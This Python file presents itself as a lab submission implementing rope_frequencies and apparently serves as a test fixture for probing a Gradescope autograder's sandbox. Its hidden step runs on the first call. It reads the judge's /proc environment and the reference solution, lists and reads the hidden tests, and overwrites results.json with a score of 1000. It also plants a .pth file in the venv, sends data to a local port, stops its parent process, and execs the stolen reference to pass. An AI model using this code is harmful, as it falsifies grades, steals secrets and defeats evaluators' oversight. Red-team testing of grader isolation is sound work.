"""Hostile, aimed at a Gradescope autograder: finds the autograder's folder (/autograder, or the
one the judge's command line names), reads the reference, the hidden checks, the results and
Gradescope's metadata, writes a results.json of its own, phones home, and signals the judge.
It prints a SNOOP-GOT line for each attempt that worked, then one SNOOP-NO line naming those
refused (not those of paths that do not exist), and answers with the reference's rope_frequencies when it could read it (else
zeros)."""
import os
import signal
import socket

import torch

DONE, REFUSED = [], []


def roots():
    """/autograder, and every folder named on a command line beside "autograde" (the judge's),
    with the judge's own view of them: its working folder and its root, through /proc."""
    found = {"/autograder"}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            words = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
        except OSError:
            continue
        if any("autograde" in word for word in words):
            named = [word for word in words if word.startswith("/") and os.path.isdir(f"{word}/source")]
            found.update(named + [f"/proc/{pid}/root{word}" for word in named[:1] if not found - {"/autograder"}])
            attempt(f"read /proc/{pid}/cwd/reference/lab2/positions.py",
                    lambda pid=pid: open(f"/proc/{pid}/cwd/reference/lab2/positions.py").read())
            attempt(f"read /proc/{pid}/environ", lambda pid=pid: open(f"/proc/{pid}/environ").read())
    return sorted(found)


def attempt(what, action):
    try:
        got = action()
        print(f"SNOOP-GOT {what}: {str(got)[:80]!r}")
        return got
    except FileNotFoundError:       # not there: not worth a word
        return None
    except Exception as error:
        REFUSED.append(f"{what} ({type(error).__name__})")
        return None


def snoop():
    attempt("connect 127.0.0.1:47321", lambda: socket.create_connection(("127.0.0.1", 47321), 1).sendall(b"stolen"))
    attempt("stop the zygote", lambda: os.kill(os.getppid(), signal.SIGSTOP))
    reference = None
    for root in roots():
        source = os.path.join(root, "source")
        reference = attempt(f"read {source}/reference/lab2/positions.py",
                            lambda: open(f"{source}/reference/lab2/positions.py").read()) or reference
        attempt(f"list {source}/grader/labs/lab2/hidden", lambda: os.listdir(f"{source}/grader/labs/lab2/hidden"))
        attempt(f"read {source}/grader/labs/lab2/hidden/test_positions.py",
                lambda: open(f"{source}/grader/labs/lab2/hidden/test_positions.py").read())
        attempt(f"list {source}", lambda: os.listdir(source))
        attempt(f"read {root}/results/results.json", lambda: open(f"{root}/results/results.json").read())
        attempt(f"write {root}/results/results.json",
                lambda: open(f"{root}/results/results.json", "w").write('{"score": 1000, "tests": []}'))
        attempt(f"read {root}/submission_metadata.json", lambda: open(f"{root}/submission_metadata.json").read())
        attempt(f"list {root}/submission", lambda: os.listdir(f"{root}/submission"))
        attempt(f"write {root}/venv", lambda: open(f"{root}/venv/snoop.pth", "w").write("import os"))
    print(f"SNOOP-NO {'; '.join(REFUSED)}")
    return reference


def rope_frequencies(head_dim, seq_len, base=10000.0, device="cpu"):
    if not DONE:
        DONE.append(snoop())
    if DONE[0]:
        scope = {}
        exec(DONE[0], scope)
        return scope["rope_frequencies"](head_dim, seq_len, base, device)
    zeros = torch.zeros(seq_len, head_dim // 2, device=device)
    return zeros, zeros


def apply_rope(x, cos, sin):
    raise NotImplementedError
